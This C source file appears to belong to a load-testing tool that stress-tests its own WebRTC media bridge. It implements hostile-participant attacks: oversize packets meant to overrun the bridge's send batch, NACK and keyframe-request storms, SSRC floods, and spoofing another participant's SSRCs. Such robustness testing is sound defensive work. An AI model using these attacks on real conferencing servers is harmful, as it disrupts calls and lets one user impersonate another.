/* The attacks of a participant that joined: hooks into tools/load's
 * signalling and media threads (load_hooks), run on the media thread once
 * SRTP is up and while g_stats.attacking is set. */
#include <inttypes.h>
#include <sys/uio.h>
#include <string.h>

#include "hostile.h"
#include "sdp_load.h"
#include "sig.h"
#include "core/bytes.h"
#include "core/random.h"
#include "webrtc/rtcp.h"
#include "webrtc/rtp.h"
#include "webrtc/sdp.h"

#define MAX_VIDEO_STREAMS 16
#define NACK_SPAN 1500                   /* packets named by one NACK compound */
#define NACK_PER_PACKET 125
/* Small packets before each big one: with three receivers, 114 of the 128
 * slots of the bridge's send batch. */
#define OVERSIZE_LEAD 38
#define FLOOD_PAYLOAD 100

/* The video streams forwarded to us: which numbers arrived (a second copy of
 * one is a retransmission), and the highest, for the NACK storm to name. */
typedef struct video_stream {
    uint32_t ssrc;
    uint16_t highest;
    uint64_t seen[65536 / 64];
} video_stream;

static video_stream streams[MAX_VIDEO_STREAMS];
static int n_streams;
static int64_t next_attack_ns;
static uint32_t own_audio_ssrc, own_video_ssrc;

static video_stream *stream_of(uint32_t ssrc)
{
    for (int i = 0; i < n_streams; i++)
        if (streams[i].ssrc == ssrc)
            return &streams[i];
    if (n_streams == MAX_VIDEO_STREAMS)
        return NULL;
    streams[n_streams].ssrc = ssrc;
    return &streams[n_streams++];
}

static bool is_video_pt(uint8_t pt)
{
    return pt == SDP_PT_VP8 || pt == SDP_PT_H264;
}

static bool is_rtx_pt(uint8_t pt)
{
    return pt == SDP_PT_VP8_RTX || pt == SDP_PT_H264_RTX;
}

static void on_rtp(pc *c, const uint8_t *buf, size_t len, const rtp_header *h, int64_t now)
{
    (void)c;
    (void)buf;
    (void)now;
    if (!h) {
        /* Resent without RTX under a number SRTP saw already: a retransmission. */
        if (atomic_load_explicit(&g_stats.attacking, memory_order_relaxed)) {
            g_stats.rtx_bytes += len;
            g_stats.rtx_packets++;
        }
        return;
    }
    video_stream *v = is_video_pt(h->payload_type) ? stream_of(h->ssrc) : NULL;
    bool again = false;
    if (v) {
        uint64_t bit = (uint64_t)1 << (h->seq % 64);
        again = (v->seen[h->seq / 64] & bit) != 0;
        v->seen[h->seq / 64] |= bit;
        if ((int16_t)(h->seq - v->highest) > 0 || v->highest == 0)
            v->highest = h->seq;
    }
    if (!atomic_load_explicit(&g_stats.attacking, memory_order_relaxed))
        return;
    if (again || is_rtx_pt(h->payload_type)) {
        g_stats.rtx_bytes += len;
        g_stats.rtx_packets++;
    } else {
        g_stats.media_bytes += len;
        g_stats.media_packets++;
    }
}

/* Foreign SSRCs: the first audio and video SSRCs another participant sends
 * (from our offer's a=ssrc lines) become ours to send under; the answer
 * declares them too, until the server refused such an answer. */
static void before_answer(participant *p, const lsdp *offer, lsdp_local *l)
{
    if (g_opts.scenario != SC_FOREIGN_SSRC)
        return;
    if (!own_audio_ssrc) {
        own_audio_ssrc = p->audio_ssrc;
        own_video_ssrc = p->video_ssrc;
    }
    for (size_t i = 0; i < offer->n_media; i++) {
        const lsdp_media *m = &offer->media[i];
        if (!m->ssrc || m->port == 0 || strcmp(m->msid_stream, p->id) == 0)
            continue;
        if (strcmp(m->kind, "audio") == 0 && !g_stats.victim_audio)
            g_stats.victim_audio = m->ssrc;
        else if (strcmp(m->kind, "video") == 0 && !g_stats.victim_video)
            g_stats.victim_video = m->ssrc;
    }
    if (g_stats.victim_audio)
        p->audio_ssrc = g_stats.victim_audio;
    if (g_stats.victim_video)
        p->video_ssrc = g_stats.victim_video;
    l->audio_ssrc = g_stats.answered_again ? own_audio_ssrc : p->audio_ssrc;
    l->video_ssrc = g_stats.answered_again ? own_video_ssrc : p->video_ssrc;
}

static void on_server_error(sig_conn *s, const char *code, const char *re)
{
    if (!g_stats.error_code[0]) {
        snprintf(g_stats.error_code, sizeof g_stats.error_code, "%s", code);
        snprintf(g_stats.error_re, sizeof g_stats.error_re, "%s", re);
    }
    /* Refused: answer honestly, to get the keys and send under the
     * victim's SSRCs all the same. */
    if (g_opts.scenario == SC_FOREIGN_SSRC && !g_stats.answered_again && strcmp(re, "answer") == 0) {
        g_stats.answered_again = true;
        sig_stoa_answer_again(s);
    }
}

static void send_rtcp(pc *c, uint8_t *buf, size_t n, size_t cap)
{
    if (n == 0 || stoa_srtp_protect_rtcp(&c->srtp, buf, &n, cap) < 0)
        return;
    pc_send_packet(c, buf, n);
    g_stats.sent++;
    g_stats.sent_bytes += n;
}

static void send_rtp(pc *c, uint8_t *buf, size_t len, size_t cap)
{
    if (stoa_srtp_protect_rtp(&c->srtp, buf, &len, cap) < 0)
        return;
    pc_send_packet(c, buf, len);
    g_stats.sent++;
    g_stats.sent_bytes += len;
}

static void rtp_header_write(uint8_t *buf, uint8_t pt, uint16_t seq, uint32_t ts, uint32_t ssrc)
{
    buf[0] = 0x80;
    buf[1] = pt;
    be16_write(buf + 2, seq);
    be32_write(buf + 4, ts);
    be32_write(buf + 8, ssrc);
}

/* One authenticated packet far larger than any MTU: only ICE-TCP carries
 * it. It follows, in the same write, small packets of the same microphone,
 * so that the bridge, forwarding them to the room's receivers over UDP, has
 * filled most of its send batch when it reads the big one: a copy of that
 * into a batch slot would then run past the batch, where a sanitizer sees it. */
static void send_oversize(pc *c)
{
    static uint8_t big[65535], small[OVERSIZE_LEAD][12 + FLOOD_PAYLOAD + STOA_SRTP_MAX_TRAILER];
    static uint16_t seq;
    struct iovec pkts[OVERSIZE_LEAD + 1];
    size_t len = (size_t)g_opts.size, n = 0;
    if (len < 12 || len + STOA_SRTP_MAX_TRAILER > sizeof big)
        return;
    for (int i = 0; i < OVERSIZE_LEAD; i++) {
        size_t small_len = 12 + FLOOD_PAYLOAD;
        rtp_header_write(small[i], SDP_PT_OPUS, seq, (uint32_t)seq * 960, c->p->audio_ssrc);
        seq++;
        memset(small[i] + 12, 0, FLOOD_PAYLOAD);
        if (stoa_srtp_protect_rtp(&c->srtp, small[i], &small_len, sizeof small[i]) == 0)
            pkts[n++] = (struct iovec){ small[i], small_len };
    }
    rtp_header_write(big, SDP_PT_OPUS, seq, (uint32_t)seq * 960, c->p->audio_ssrc);
    seq++;
    memset(big + 12, 0xA5, len - 12);
    if (stoa_srtp_protect_rtp(&c->srtp, big, &len, sizeof big) < 0)
        return;
    pkts[n++] = (struct iovec){ big, len };
    pc_send_packets(c, pkts, n);
    g_stats.sent++;
    g_stats.sent_bytes += len;
}

/* Per camera, one compound of NACK packets naming NACK_SPAN packets in all:
 * each packet the newest NACK_PER_PACKET numbers, the ones a packet cache
 * still holds (a bridge reads only so many numbers of one packet). */
static void send_nacks(pc *c)
{
    uint16_t seqs[NACK_PER_PACKET];
    for (int i = 0; i < n_streams; i++) {
        uint8_t buf[1400];
        size_t len = 0, cap = sizeof buf - STOA_SRTP_MAX_TRAILER;
        for (int k = 0; k < NACK_PER_PACKET; k++)
            seqs[k] = (uint16_t)(streams[i].highest - (NACK_PER_PACKET - 1) + k);
        for (int named = 0; named < NACK_SPAN; named += NACK_PER_PACKET) {
            size_t n = rtcp_build_nack(buf + len, cap - len, c->p->audio_ssrc, streams[i].ssrc, seqs,
                                       NACK_PER_PACKET);
            if (n == 0)
                break;
            len += n;
        }
        send_rtcp(c, buf, len, sizeof buf);
    }
}

static void send_keyframe_requests(pc *c)
{
    static uint8_t fir_seq;
    for (int i = 0; i < n_streams; i++) {
        uint8_t buf[256];
        size_t cap = sizeof buf - STOA_SRTP_MAX_TRAILER;
        size_t n = fir_seq % 2 ? rtcp_build_fir(buf, cap, c->p->audio_ssrc, streams[i].ssrc, fir_seq)
                               : rtcp_build_pli(buf, cap, c->p->audio_ssrc, streams[i].ssrc);
        send_rtcp(c, buf, n, sizeof buf);
    }
    fir_seq++;
}

static void send_new_ssrc(pc *c)
{
    uint8_t buf[12 + FLOOD_PAYLOAD + STOA_SRTP_MAX_TRAILER];
    rtp_header_write(buf, SDP_PT_OPUS, (uint16_t)random_u32(), random_u32(), random_u32());
    memset(buf + 12, 0, FLOOD_PAYLOAD);
    send_rtp(c, buf, 12 + FLOOD_PAYLOAD, sizeof buf);
}

static void on_media_tick(media_worker *w, pc *c, int64_t now)
{
    (void)w;
    if (!atomic_load_explicit(&g_stats.attacking, memory_order_relaxed) || c->failed)
        return;
    if (g_opts.count > 0 && g_stats.sent >= (uint64_t)g_opts.count)
        return;
    int64_t interval = 1000000000LL / (g_opts.rate > 0 ? g_opts.rate : 1);
    if (next_attack_ns == 0 || now - next_attack_ns > 100000000LL)
        next_attack_ns = now;            /* start, or skip after a stall rather than burst */
    /* Ticks come about every millisecond: higher rates send several per tick. */
    for (int burst = 0; now >= next_attack_ns && burst < 64; burst++) {
        next_attack_ns += interval;
        switch (g_opts.scenario) {
        case SC_OVERSIZE: send_oversize(c); break;
        case SC_NACK_STORM: send_nacks(c); break;
        case SC_PLI_STORM: send_keyframe_requests(c); break;
        case SC_SSRC_FLOOD: send_new_ssrc(c); break;
        default: return;                 /* foreign-ssrc sends through the ordinary publisher */
        }
    }
}

const load_hooks hostile_hooks = {
    .before_answer = before_answer,
    .on_server_error = on_server_error,
    .on_media_tick = on_media_tick,
    .on_rtp = on_rtp,
};

void media_attacks_report(FILE *out)
{
    fprintf(out, " sent=%" PRIu64 " sent_bytes=%" PRIu64 " media_bytes=%" PRIu64 " media_packets=%" PRIu64
                 " rtx_bytes=%" PRIu64 " rtx_packets=%" PRIu64 " video_streams=%d victim_audio=%" PRIu32
                 " victim_video=%" PRIu32 " error=%s error_re=%s answered_again=%d",
            g_stats.sent, g_stats.sent_bytes, g_stats.media_bytes, g_stats.media_packets, g_stats.rtx_bytes,
            g_stats.rtx_packets, n_streams, g_stats.victim_audio, g_stats.victim_video,
            g_stats.error_code[0] ? g_stats.error_code : "-", g_stats.error_re[0] ? g_stats.error_re : "-",
            g_stats.answered_again);
}
